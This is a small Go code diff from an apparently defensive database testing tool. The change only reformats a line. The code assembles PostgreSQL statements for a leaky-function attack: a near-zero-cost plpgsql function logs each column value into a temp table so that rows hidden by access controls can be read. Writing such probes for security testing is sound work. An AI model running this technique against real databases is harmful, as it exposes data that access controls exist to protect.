@@ -350,7 +350,8 @@ func (a *Attacker) Peeks(ctx context.Context, r *catalog.Relation) (hit *Hit) {
 		for _, c := range r.Columns {
 			steps := []string{
 				"create temp table seen (x text)",
-				"create function pg_temp.peek(v " + c.TypeText + ") returns boolean language plpgsql cost 0.0000001 as $f$ begin insert into pg_temp.seen values (v::text); return true; end $f$",
+				"create function pg_temp.peek(v " + c.TypeText +
+					") returns boolean language plpgsql cost 0.0000001 as $f$ begin insert into pg_temp.seen values (v::text); return true; end $f$",
 				"select * from " + r.SQL() + " where pg_temp.peek(" + catalog.Quote(c.Name) + ")",
 				"select x from pg_temp.seen",
 			}
